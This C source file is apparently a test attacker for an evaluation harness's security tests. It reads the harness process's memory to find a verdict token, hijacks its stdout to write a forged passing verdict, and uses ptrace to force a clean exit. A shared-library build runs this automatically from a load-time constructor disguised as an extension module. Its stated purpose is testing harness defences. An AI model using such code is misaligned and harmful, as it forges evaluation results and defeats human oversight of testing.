/* A native attacker for tests/security/test_native.py (issue 40): built by the test with gcc, never
 * committed compiled.
 *
 *   helper forge PID SEED...   read PID's memory near each SEED address (process_vm_readv) for the
 *                              run's verdict token, take PID's stdout (pidfd_open + pidfd_getfd),
 *                              write "<token> 3" on it, then make PID exit_group(0) (ptrace).
 *   helper probe PID SEED      try each primitive on PID once and print "name: ok" or "name: <errno>".
 *
 * Built with -DAS_LIB -shared -fPIC it is an "extension module": its constructor runs "forge" on the
 * parent process as soon as it is loaded, scanning around its own heap and stack (the program's
 * interpreter is a fork of the harness: the same layout).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096UL
#define SPAN (256UL << 20)

static pid_t target;
static char needle[32];

static int vm_read(unsigned long addr, void *buf, size_t n) {
    struct iovec l = {buf, n}, r = {(void *)addr, n};
    return process_vm_readv(target, &l, 1, &r, 1, 0) == (ssize_t)n ? 0 : -1;
}

static int is_hex(char c) { return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f'); }

static int scan(const char *buf, size_t n, char *tok) {
    size_t k = strlen(needle);
    for (size_t i = 0; i + k + 32 <= n; i++) {
        if (memcmp(buf + i, needle, k) != 0) continue;
        int ok = 1;
        for (size_t j = 0; j < 32; j++) ok &= is_hex(buf[i + k + j]);
        if (ok && (i + k + 32 == n || !is_hex(buf[i + k + 32]))) {
            memcpy(tok, buf + i, k + 32);
            tok[k + 32] = 0;
            return 1;
        }
    }
    return 0;
}

static int find_token(unsigned long seed, char *tok) {
    static char buf[PAGE + 128];
    unsigned long lo = seed > SPAN ? (seed - SPAN) & ~(PAGE - 1) : 0, hi = seed + SPAN;
    for (unsigned long a = lo; a < hi; a += PAGE) {
        if (vm_read(a, buf, PAGE + 128) == 0) {
            if (scan(buf, PAGE + 128, tok)) return 1;
        } else if (vm_read(a, buf, PAGE) == 0 && scan(buf, PAGE, tok)) {
            return 1;
        }
    }
    return 0;
}

static int exit_zero(void) {
    if (ptrace(PTRACE_SEIZE, target, 0, PTRACE_O_TRACESYSGOOD) != 0) return -1;
    if (ptrace(PTRACE_INTERRUPT, target, 0, 0) != 0) return -1;
    for (int i = 0; i < 20; i++) {
        int st;
        if (waitpid(target, &st, __WALL) != target) return -1;
        if (WIFEXITED(st) || WIFSIGNALED(st)) return 0;
        struct user_regs_struct regs;
        if (ptrace(PTRACE_GETREGS, target, 0, &regs) == 0) {
            regs.orig_rax = SYS_exit_group;
            regs.rdi = 0;
            ptrace(PTRACE_SETREGS, target, 0, &regs);
        }
        ptrace(PTRACE_SYSCALL, target, 0, 0);
    }
    return -1;
}

static int forge(int nseeds, unsigned long *seeds) {
    char tok[128];
    int found = 0;
    strcpy(needle, "EVALSUITE-");
    strcat(needle, "VERDICT-");
    for (int i = 0; i < nseeds && !found; i++) found = find_token(seeds[i], tok);
    if (!found) {
        fprintf(stderr, "helper: no token (%s)\n", strerror(errno));
        return 2;
    }
    int pidfd = syscall(SYS_pidfd_open, target, 0);
    int fd = pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 1, 0);
    if (fd < 0) {
        fprintf(stderr, "helper: no stdout (%s)\n", strerror(errno));
        return 3;
    }
    char line[160];
    int n = snprintf(line, sizeof line, "\n%s 3\n", tok);
    if (write(fd, line, n) != n) return 4;
    if (exit_zero() != 0) {
        fprintf(stderr, "helper: no exit (%s)\n", strerror(errno));
        return 5;
    }
    return 0;
}

static void report(const char *name, long rc) {
    printf("%s: %s\n", name, rc < 0 ? strerrorname_np(errno) : "ok");
}

static int probe(unsigned long seed) {
    char buf[64];
    struct iovec l = {buf, sizeof buf}, r = {(void *)seed, sizeof buf};
    report("process_vm_readv", process_vm_readv(target, &l, 1, &r, 1, 0));
    int pidfd = syscall(SYS_pidfd_open, target, 0);
    report("pidfd_open", pidfd);
    report("pidfd_getfd", pidfd < 0 ? -1 : syscall(SYS_pidfd_getfd, pidfd, 1, 0));
    report("kill_0", kill(target, 0));
    long rc = ptrace(PTRACE_SEIZE, target, 0, 0);
    report("ptrace_seize", rc);
    if (rc == 0) ptrace(PTRACE_DETACH, target, 0, 0);
    rc = ptrace(PTRACE_ATTACH, target, 0, 0);
    report("ptrace_attach", rc);
    if (rc == 0) {
        waitpid(target, 0, __WALL);
        ptrace(PTRACE_DETACH, target, 0, 0);
    }
    fflush(stdout);
    return 0;
}

#ifdef AS_LIB
__attribute__((constructor)) static void run_on_load(void) {
    unsigned long seeds[2] = {(unsigned long)malloc(64), (unsigned long)&seeds};
    target = getppid();
    forge(2, seeds);
}
#else
int main(int argc, char **argv) {
    if (argc < 4) return 64;
    target = (pid_t)atol(argv[2]);
    unsigned long seeds[16];
    int n = 0;
    for (int i = 3; i < argc && n < 16; i++) seeds[n++] = strtoul(argv[i], 0, 0);
    if (strcmp(argv[1], "probe") == 0) return probe(seeds[0]);
    return forge(n, seeds);
}
#endif
